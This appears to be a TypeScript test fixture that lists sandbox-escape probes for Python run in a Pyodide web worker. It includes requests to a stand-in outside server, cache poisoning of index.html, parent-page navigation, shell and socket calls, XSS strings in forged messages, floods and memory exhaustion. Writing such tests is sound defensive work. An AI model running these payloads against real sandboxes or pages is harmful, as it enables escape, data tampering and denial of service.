/**
 * What a text that a reader pastes into the model's editor may try: attacks in Python, for python.spec.ts. `OTHER` is a
 * server of another origin, `HOME` the site; each of their addresses that an attack asks for ends in /attack.
 *
 * A quiet attack is a function's body. It gives back a promise, or "waits" after `hear` has been told what success and
 * failure are, or False where what it wanted is not there. All else, and a promise that is kept, counts as a way out;
 * an error counts as refused.
 */

/** Every way to ask a server for something, with `%` for the server. */
const ASKING: Readonly<Record<string, string>> = {
  fetch: "return js.fetch(% + 'attack')",
  "fetch without CORS":
    "return js.fetch(% + 'attack', to_js({'mode': 'no-cors'}, dict_converter=js.Object.fromEntries))",
  "fetch that outlives the page":
    "return js.fetch(% + 'attack', to_js({'method': 'POST', 'mode': 'no-cors', 'keepalive': True, 'body': 'x'}, " +
    "dict_converter=js.Object.fromEntries))",
  "fetch of a request": "return js.fetch(js.Request.new(% + 'attack'))",
  "fetch by Reflect": "return js.Reflect.apply(js.fetch, js.self, to_js([% + 'attack']))",
  XMLHttpRequest:
    "x = js.XMLHttpRequest.new(); hear(i, x, 'load', 'T'); hear(i, x, 'error', 'r'); x.open('GET', % + 'attack'); " +
    "x.send(); return 'waits'",
  "XMLHttpRequest that waits":
    "x = js.XMLHttpRequest.new(); x.open('GET', % + 'attack', False); x.send(); return x.status",
  WebSocket:
    "s = js.WebSocket.new(%.replace('http', 'ws') + 'attack'); hear(i, s, 'open', 'T'); hear(i, s, 'error', 'r'); " +
    "return 'waits'",
  EventSource:
    "s = js.EventSource.new(% + 'attack'); hear(i, s, 'open', 'T'); hear(i, s, 'error', 'r'); return 'waits'",
  WebTransport: "return js.WebTransport.new(%.replace('http:', 'https:') + 'attack').ready",
  "font of a server": "return js.FontFace.new('x', 'url(' + % + 'attack)').load()",
  importScripts: "js.importScripts(% + 'attack')",
  "worker of a server": "w = js.Worker.new(% + 'attack'); return 'waits'",
  sendBeacon: "return js.navigator.sendBeacon(% + 'attack', 'x')",
  "WebAssembly of a server": "return js.WebAssembly.compileStreaming(js.fetch(% + 'attack'))",
  pyfetch: "import pyodide.http, asyncio; return asyncio.ensure_future(pyodide.http.pyfetch(% + 'attack'))",
  open_url: "import pyodide.http; return pyodide.http.open_url(% + 'attack')",
  urllib: "import urllib.request; return urllib.request.urlopen(% + 'attack', timeout=1)",
  "http.client":
    "import http.client; host = %.split('/')[2]; c = http.client.HTTPConnection(host, timeout=1); " +
    "c.request('GET', '/attack'); return c.getresponse()",
  loadPackage:
    "p = js.Promise.resolve(pyodide_js.loadPackage(% + 'attack-1.0-py3-none-any.whl')); " +
    "return p.then(keep(create_proxy(lambda found: found[0])))",
};

/** Ways to run a script, to storage, to the page and to its other workers. */
const REACHING: Readonly<Record<string, string>> = {
  eval: "return js.eval('1 + 1')",
  "eval by Reflect": "return js.Reflect.apply(js.eval, None, to_js(['1 + 1']))",
  Function: "return js.Function.new('return 1')()",
  "Function of a function": "return js.fetch.constructor('return 1')()",
  "Function of Python’s": "return to_js([]).constructor.constructor('return self')()",
  "a text for setTimeout":
    "js.globalThis.attacked = False; js.setTimeout('attacked = true'); return later(i, 'attacked')",
  "a text for setInterval": "js.globalThis.begun = False; js.setInterval('begun = true', 50); return later(i, 'begun')",
  run_js: "from pyodide.code import run_js; return run_js('1 + 1')",
  "importScripts of a blob": "js.importScripts(blob('1 + 1'))",
  "importScripts of data": "js.importScripts('data:text/javascript,1')",
  "fetch of a blob": "return js.fetch(blob('1 + 1'))",
  "fetch of data": "return js.fetch('data:text/plain,1')",
  "worker of a blob": "w = js.Worker.new(blob(PROBE)); hear(i, w, 'message', 'T'); return 'waits'",
  "worker of data":
    "w = js.Worker.new('data:text/javascript,postMessage(1)'); hear(i, w, 'message', 'T'); return 'waits'",
  SharedWorker: "return js.SharedWorker.new(blob(PROBE))",
  "constructor of the scope": "return js.Object.getPrototypeOf(js.self).constructor.new(blob(PROBE))",
  RTCPeerConnection: "return js.RTCPeerConnection.new().createDataChannel('x')",
  Image: "js.Image.new().src = OTHER + 'attack'",
  "a script element": "js.document.createElement('script')",
  "the service worker": "return js.navigator.serviceWorker.register(HOME + 'attack')",
  "the registrations": "return js.navigator.serviceWorker.getRegistrations()",
  "caches: open": "return js.caches.open('attack')",
  "caches: names": "return js.caches.keys()",
  "caches: look up": "return js.caches.match(HOME + 'index.html')",
  "caches: delete": "return js.caches.delete('roundtrip-python')",
  "caches: put":
    "return js.caches.open('workbox-precache-v2-' + HOME).then(create_proxy(lambda c: c.put(HOME + 'index.html', " +
    "js.Response.new('<h1>owned</h1>'))))",
  "IndexedDB: open":
    "r = js.indexedDB.open('attack'); hear(i, r, 'success', 'T'); hear(i, r, 'error', 'r'); return 'waits'",
  "IndexedDB: names": "return js.indexedDB.databases()",
  "IndexedDB: delete":
    "r = js.indexedDB.deleteDatabase('attack'); hear(i, r, 'success', 'T'); hear(i, r, 'error', 'r'); return 'waits'",
  "files of the origin": "return js.navigator.storage.getDirectory()",
  "storage: persist": "return js.navigator.storage.persist()",
  "storage buckets": "return js.navigator.storageBuckets.open('attack')",
  localStorage: "js.localStorage.setItem('attack', '1')",
  sessionStorage: "js.sessionStorage.setItem('attack', '1')",
  cookies: "js.document.cookie = 'attack=1'",
  cookieStore: "return js.cookieStore.set('attack', '1')",
  locks: "return js.navigator.locks.request('attack', create_proxy(lambda lock: None))",
  "files of the machine": "return js.showOpenFilePicker()",
  "a file system of the browser":
    "import pyodide_js; pyodide_js.mountNativeFS('/mnt', js.navigator.storage.getDirectory())",
  "IDBFS of Pyodide":
    "import pyodide_js; fs = pyodide_js.FS; fs.mkdir('/idb'); fs.mount(fs.filesystems.IDBFS, to_js({}), '/idb'); " +
    "fs.syncfs(True, create_proxy(lambda error: mark(i, 'r' if error else 'T'))); return 'waits'",
  "the page’s document": "js.window.parent.document.title = 'owned'",
  "the page’s address": "js.parent.location.href = OTHER + 'attack'",
  "the top page": "js.top.location.href = OTHER + 'attack'",
  "the frame’s address": "js.self.location.href = OTHER + 'attack'; return False",
  "a new window": "return js.open(OTHER + 'attack')",
  "a client’s window": "return js.clients.openWindow(OTHER + 'attack')",
  notifications: "js.Notification.new('attack'); return js.Notification.permission == 'granted'",
  "the clipboard": "return js.navigator.clipboard.writeText('attack')",
  "a page’s dialog": "return js.alert('attack')",
  "a broadcast to the page": "js.BroadcastChannel.new('attack').postMessage('attack'); return False",
  "a shell": "import os; return os.system('true') == 0",
  "a process": "import subprocess; return subprocess.run(['true'])",
  "a socket":
    "import socket; host, port = OTHER.split('/')[2].split(':'); s = socket.create_connection((host, int(port)), 1); " +
    "s.send(b'GET /attack HTTP/1.0\\r\\n\\r\\n'); return s.recv(9)",
  "a library of this machine": "import ctypes; return ctypes.CDLL('libc.so.6')",
  "the origin’s name": "return js.self.origin != 'null'",
};

/** Name and body of each quiet attack. */
export const QUIET: readonly (readonly [string, string])[] = [
  ...["OTHER", "HOME"].flatMap((server) =>
    Object.entries(ASKING).map(([name, body]) => [`${name}, ${server}`, body.replaceAll("%", server)] as const),
  ),
  ...Object.entries(REACHING),
];

/** A loud attack ends Python, or fools the page; each has a Python of its own. Its text stands before the model's. */
export const LOUD: Readonly<Record<string, string>> = {
  "a message of the text’s own": "js.self.postMessage('attack')",
  "a message that is no text":
    "js.self.postMessage(to_js({'tag': 'values', 'values': [1]}, dict_converter=js.Object.fromEntries))",
  "a flood of messages": "for n in range(200_000): js.self.postMessage('attack')",
  "a text of 50 MB": "js.self.postMessage('x' * 50_000_000)",
  "a flood of large messages": "for n in range(500): js.self.postMessage(js.Uint8Array.new(1_000_000))",
  "a forged answer of other numbers": forged('{"tag":"values","values":["<img src=x onerror=alert(1)>"]}'),
  "a forged answer without end": forged('{"tag":"values","values":[1e999]}'),
  "a forged answer of too many values": forged(`{"tag":"values","values":[${"1,".repeat(9999)}1]}`),
  "a forged fault": forged(
    '{"tag":"problem","problem":{"type":"<img src=x onerror=alert(1)>","detail":"x","line":-7,"column":1e9}}',
  ),
  "a forged fault of 1 MB": forged(
    `{"tag":"problem","problem":{"type":"E","detail":"' + 'x' * 900_000 + '","line":1}}`,
  ),
  "a forged prototype": forged('{"tag":"values","__proto__":{"values":[1]},"constructor":1}'),
  "no JSON": forged("attack"),
  "an endless list": forged("[".repeat(5000)),
  "another tell": "js.globalThis.postMessage = create_proxy(lambda *_: None); js.self.onmessage = create_proxy(print)",
  "markup in a fault": "raise Exception('<img src=x onerror=alert(1)><script>alert(1)</script>')",
  "markup in a fault’s type": "raise type('<img src=x onerror=alert(1)>', (Exception,), {})('x')",
  "a type of 1 MB": "raise type('x' * 1_000_000, (Exception,), {})('x')",
  "half a letter": "raise Exception('\\ud800' * 100)",
  "the end of the worker": "js.self.close()",
  "the end of Python": "import os; os._exit(1)",
  "an error after the run":
    "js.setTimeout(create_proxy(lambda: js.queueMicrotask(js.JSON.parse.bind(None, 'attack'))), 100)",
  "requests after the run":
    "js.setInterval(create_proxy(lambda *_: js.fetch(OTHER + 'attack', to_js({'mode': 'no-cors'}, " +
    "dict_converter=js.Object.fromEntries))), 20)",
  "messages after the run": "js.setInterval(create_proxy(lambda *_: js.self.postMessage('attack')), 1)",
  "a loop": "while True: pass",
  "all of the memory": "x = [bytearray(50_000_000) for n in range(1000)]",
};

/** Puts `answer` in the place of all answers. */
function forged(answer: string): string {
  return `js.JSON.stringify = create_proxy(lambda *_: '${answer}')`;
}

const HEAD = `
import sys, types, js, pyodide_js
from pyodide.ffi import create_proxy, to_js
`;

/** A text that makes quiet attacks when it first runs; each later run raises the next piece of what became of them. */
export function quietText(attacks: typeof QUIET, other: string, home: string): string {
  const bodies = attacks.map(([, body], i) => `def attack_${i}(i):\n    ${body.replaceAll("; ", "\n    ")}\n`);
  return `${HEAD}
OTHER, HOME, N = ${JSON.stringify(other)}, ${JSON.stringify(home)}, ${attacks.length}
state = sys.modules.get("state")
if state is not None:
    state.turn += 1
    said = "".join(state.marks)
    raise RuntimeError("turn " + str(state.turn) + " [" + said + "]")
state = sys.modules["state"] = types.ModuleType("state")
state.turn, state.marks, state.kept = 0, ["-"] * N, []

# The script of a worker that asks the other server.
PROBE = "postMessage('hi'); fetch('" + OTHER + "attack', {mode: 'no-cors'})"

def blob(script):
    kind = to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries)
    return js.URL.createObjectURL(js.Blob.new(to_js([script]), kind))

def mark(i, letter, *_):
    if state.marks[i] != "T":
        state.marks[i] = letter

def keep(what):
    state.kept.append(what)
    return what

def teller(i, letter):
    return keep(create_proxy(lambda *_: mark(i, letter)))

def hear(i, target, event, letter):
    target.addEventListener(event, teller(i, letter))

def later(i, name):
    js.setTimeout(keep(create_proxy(lambda *_: mark(i, "T" if getattr(js, name) else "r"))), 300)
    return "waits"

${bodies.join("\n")}
def begin(i, attack):
    try:
        outcome = attack(i)
    except BaseException:
        return mark(i, "r")
    if outcome == "waits":
        return mark(i, "w") if state.marks[i] == "-" else None
    if outcome is False:
        return mark(i, "r")
    if hasattr(outcome, "add_done_callback"):
        mark(i, "w")
        return outcome.add_done_callback(lambda done: mark(i, "r" if done.exception() else "T"))
    if hasattr(outcome, "then"):
        mark(i, "w")
        return keep(outcome.then(teller(i, "T"), teller(i, "r")))
    mark(i, "T")

for i in range(N):
    begin(i, globals()["attack_" + str(i)])

def null_us(*_, **__):
    return 4321
`;
}

export const loudText = (attack: string, other: string, model: string): string =>
  `${HEAD}\nOTHER = ${JSON.stringify(other)}\n${attack}\n${model}`;
